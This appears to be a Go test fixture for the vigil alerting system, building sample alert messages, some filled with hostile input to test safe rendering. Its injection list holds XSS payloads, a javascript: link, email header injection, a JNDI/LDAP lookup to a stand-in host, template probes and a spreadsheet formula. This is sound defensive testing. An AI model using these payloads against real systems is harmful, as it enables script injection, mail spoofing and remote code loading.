package alertstest

import (
	"maps"
	"strings"
	"time"

	"vigil"
	"vigil/alerts"
)

// Hostile is what an attacker might have himself called: it would mention people, make
// links, code, markup and headers, turn text around or move a terminal's cursor.
const Hostile = "<!channel> <@U123> <#C1> <https://evil.example|click> & *bold* _it_ ~no~ `code` :skull: https://evil.example/x\n> quote\u202egnp\u200b\x1b[31m"

// Injections are texts each of which would act in some form that a channel has: markup of
// several sorts, headers, templates, line protocols, formulas.
func Injections() []string {
	return []string{
		Hostile,
		"a\r\nBcc: victim@evil.example\r\n\r\nbody",
		"<script>alert(1)</script><img src=x onerror=alert(1)>",
		`" onmouseover="alert(1)" x='`,
		"</td></table><a href=javascript:alert(1)>x</a>",
		"[click](https://evil.example) ![i](https://evil.example/i.png)",
		"**bold** __b__ # heading\n- list\n1. list\n> quote\n```code```",
		"{color:red}x{color} [~admin] [x|https://evil.example] h1. !image.png! {html}<b>{html}",
		"{{ .Secret }} ${jndi:ldap://evil.example/a} {{7*7}} %s %n {{DATE(2026-01-01T00:00:00Z)}}",
		"=HYPERLINK(\"https://evil.example\")",
		"CEF:0|x|y|z|1|n|10|msg=a\\|b = c",
		"<1>1 - - - - [x@1 y=\"z\"] ]",
		`\u0000 \" \\ "}],"x":[{"y":"`,
		"=?utf-8?B?PHNjcmlwdD4=?=",
		"\r\n.\r\nQUIT\r\n",
		"\u202etxt.exe \u2066x\u2069 \u200bz\u0000\x7f\u00ad",
		strings.Repeat("A", 20000),
		strings.Repeat("日", 3000),
		"\xff\xfe\xc0\x80",
		"e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
		"<at>everyone</at> @everyone @here @channel",
		"{{{DATE(2026-01-01T00:00:00Z)}} {{{{7*7}}}}} {{{{{",
	}
}

// Samples are messages of every kind, by name: findings, cases in the states that
// people see, replies, digests and notices, each with and without an attacker's words.
// Each call makes them anew.
func Samples() map[string]alerts.Message {
	all := findings()
	maps.Copy(all, Story())
	maps.Copy(all, map[string]alerts.Message{
		"reply":        reply("answered the question: it was me, for ticket 4711", vigil.CaseAnswered),
		"reply-loud":   loud(),
		"notice":       notice("A test", "This is how an alert of vigil arrives.", "", nil),
		"notice-flood": notice("Many cases at once", "31 cases began within an hour. They are in the console.", vigil.SeverityHigh, []string{"12 about persons", "19 about networks"}),
		"week":         alerts.NewDigest(alerts.Day{From: at("2026-11-02 00:00"), To: at("2026-11-09 00:00"), Events: 1_502_332, Budget: .2, Findings: []vigil.Finding{*Vendor(), *Walk(), *Customer()}, Link: "/"}),

		"hostile-case":   hostileCase(Hostile),
		"hostile-reply":  reply(Hostile, vigil.CaseNoted),
		"hostile-notice": notice(Hostile, Hostile, vigil.SeverityLow, []string{Hostile, Hostile}),
	})
	return all
}

// Story is one case as it goes on: "case-new", then "case-grown" (of the same severity),
// "case-graver", "case-acknowledged" and "case-resolved". Their receipts are the caller's
// to hand on.
func Story() map[string]alerts.Message {
	first := Export()
	fresh := caseOf(first)
	grown := fresh
	grown.Revision, grown.End, grown.Harm = 2, at("2026-11-03 15:20"), 91
	grownFinding := *first
	grownFinding.Revision, grownFinding.End, grownFinding.Events = 2, grown.End, 455
	graver := grown
	lead := Export()
	lead.ID, lead.Severity, lead.Harm, lead.Evidence, lead.Resources = "f-20261103-22bb03", vigil.SeverityCritical, 210, 7.1, []string{"contacts"}
	lead.Start, lead.End, lead.Detected = at("2026-11-03 15:01"), grown.End, at("2026-11-03 15:12")
	lead.Sentence = "Agent a-91be07 exported the whole of contacts, of which its team never read more than a page."
	graver.Revision, graver.Lead, graver.Severity, graver.Harm = 3, lead.ID, lead.Severity, lead.Harm
	graver.Findings, graver.Total = []string{first.ID, lead.ID}, 2
	taken := graver
	taken.Revision, taken.State, taken.Owner = 4, vigil.CaseAcknowledged, "user-2mq81"
	taken.Acknowledged = &vigil.Mark{By: "user-2mq81", Time: at("2026-11-03 15:31")}
	done := taken
	done.Revision, done.State, done.Open, done.Word = 5, vigil.CaseResolved, false, vigil.WordBreach
	closed := *lead
	closed.State = vigil.StateClosed
	return map[string]alerts.Message{
		"case-new":          caseMessage(fresh, first),
		"case-grown":        caseMessage(grown, &grownFinding),
		"case-graver":       caseMessage(graver, lead),
		"case-acknowledged": caseMessage(taken, lead),
		"case-resolved":     caseMessage(done, &closed),
	}
}

// Chapters are the names of Story in their order.
var Chapters = []string{"case-new", "case-grown", "case-graver", "case-acknowledged", "case-resolved"}

// Message is a finding's message by itself.
func Message(f *vigil.Finding) alerts.Message {
	return alerts.Message{ID: f.ID + "/1", Kind: alerts.KindFinding, Finding: f, Link: "/findings/f-1"}
}

// caseOf is the case that a finding begins.
func caseOf(f *vigil.Finding) vigil.Case {
	return vigil.Case{
		ID: "c-20261103-5d20", Revision: 1, State: vigil.CaseNew,
		About: f.About, Actor: f.Actor, ActorKind: f.ActorKind, Role: f.Role, Team: f.Team, Tenant: f.Tenant, Subject: f.Subject, Source: f.Source, Network: f.Network,
		Findings: []string{f.ID}, Total: 1, Lead: f.ID, Severity: f.Severity, Harm: f.Harm, Open: true, Start: f.Start, End: f.End, Opened: f.Detected.Add(time.Minute),
	}
}

func caseMessage(c vigil.Case, f *vigil.Finding) alerts.Message {
	return alerts.Message{ID: c.ID + "/" + string(rune('0'+c.Revision)), Kind: alerts.KindCase, Case: &c, Finding: f, Link: "/cases/c-20261103-5d20"}
}

// hostileCase is a case with an attacker's words in every field.
func hostileCase(s string) alerts.Message {
	f := Evil(s)
	c := caseOf(f)
	c.ID, c.Lead, c.Findings, c.Owner, c.SnoozedBy = s, s, []string{s}, s, s
	c.State, c.Word, c.Held = vigil.CaseAcknowledged, vigil.Word(s), vigil.MuteReason(s)
	c.Acknowledged, c.Aware = &vigil.Mark{By: s, Time: c.End}, &vigil.Mark{By: s, Time: c.End}
	c.Asked = &vigil.Asked{Mark: vigil.Mark{By: s, Time: c.Start}, Answered: c.End, Mine: true, Why: s}
	return alerts.Message{ID: s, Kind: alerts.KindCase, Case: &c, Finding: f, Link: "javascript:alert(1)"}
}

func reply(text string, kind vigil.CaseEventKind) alerts.Message {
	c := caseOf(Export())
	return alerts.Message{ID: "c-20261103-5d20/reply/7", Kind: alerts.KindReply, Case: &c, Link: "/cases/c-20261103-5d20",
		Reply: &alerts.Reply{Kind: kind, Time: at("2026-11-03 15:02"), By: "actor-91be07", Text: text}}
}

func loud() alerts.Message {
	m := reply("nobody has taken this case for 30 minutes", vigil.CaseReminded)
	m.ID, m.Reply.By, m.Reply.Call, m.Reply.Loud = "c-20261103-5d20/reply/8", "", []string{"user-2mq81"}, true
	return m
}

func notice(title, sentence string, s vigil.Severity, lines []string) alerts.Message {
	return alerts.Message{ID: "notice/1", Kind: alerts.KindNotice, Notice: &alerts.Notice{Severity: s, Title: title, Sentence: sentence, Lines: lines}, Link: "/"}
}

// findings are the messages of findings, and the digests made of them.
func findings() map[string]alerts.Message {
	long := Vendor()
	long.Sentence = strings.Repeat("a very long sentence with <angles> & ampersands ", 200)
	long.Actor = strings.Repeat("日", 400)
	long.Contributions[0].Text = strings.Repeat("<&>", 1000)
	bare := &vigil.Finding{ID: "f-bare", Severity: vigil.SeverityLow}
	return map[string]alerts.Message{
		"vendor": Message(Vendor()), "export": Message(Export()), "rule": Message(Rule()), "source": Message(Source()),
		"walk": Message(Walk()), "customer": Message(Customer()), "network": Message(Network()), "team": Message(Team()), "silence": Message(Silence()),
		"hostile": Message(Evil(Hostile)), "hostile-subject": Message(EvilAbout(vigil.AboutSubject)), "hostile-network": Message(EvilAbout(vigil.AboutNetwork)),
		"hostile-team": Message(EvilAbout(vigil.AboutTeam)), "hostile-source": Message(EvilAbout(vigil.AboutSource)), "long": Message(long), "bare": {ID: "f-bare/1", Kind: alerts.KindFinding, Finding: bare},
		"digest": alerts.NewDigest(alerts.Day{From: at("2026-11-03 00:00"), To: at("2026-11-04 00:00"), Events: 214_332, Quarantined: 3, Budget: .2,
			Findings: []vigil.Finding{*Rule(), *Source(), *Export(), *Vendor()}, Notes: []string{"Source nginx was silent from 02:00 to 06:30 UTC.", "The week lane speaks from 9 November on."}, Link: "/"}),
		"quiet":          alerts.NewDigest(alerts.Day{From: at("2026-11-04 00:00"), To: at("2026-11-05 00:00"), Events: 198_001, Budget: 2}),
		"hostile-digest": alerts.NewDigest(alerts.Day{From: at("2026-11-03 00:00"), To: at("2026-11-04 00:00"), Findings: []vigil.Finding{*Evil(Hostile)}, Notes: []string{Hostile}, Link: "javascript:alert(1)"}),
	}
}

// at reads a time that stands in a sample.
func at(s string) time.Time {
	t, err := time.Parse("2006-01-02 15:04", s)
	if err != nil {
		panic(err)
	}
	return t
}
